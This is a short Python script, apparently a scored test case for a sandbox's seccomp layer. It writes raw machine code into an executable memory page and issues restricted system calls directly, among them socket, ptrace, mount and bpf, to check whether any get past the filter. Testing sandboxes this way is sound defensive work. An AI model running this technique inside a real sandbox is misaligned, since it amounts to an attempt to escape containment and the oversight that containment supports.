# attack: forbidden calls straight from machine code, past every library
# layer: seccomp
# outcome: ok
# score: 2
import ctypes
import mmap
import os
import struct

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
for number in (41, 101, 165, 272, 298, 321, 425):
    page.seek(0)
    # mov eax, number; mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
    page.write(b"\xb8" + struct.pack("<I", number) + b"\xbf\x02\0\0\0\xbe\x01\0\0\0\x31\xd2\x0f\x05\xc3")
    entry = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if entry() >= 0:
        os.write(1, b"BREACH call %d" % number)


def double(x):
    return x * 2
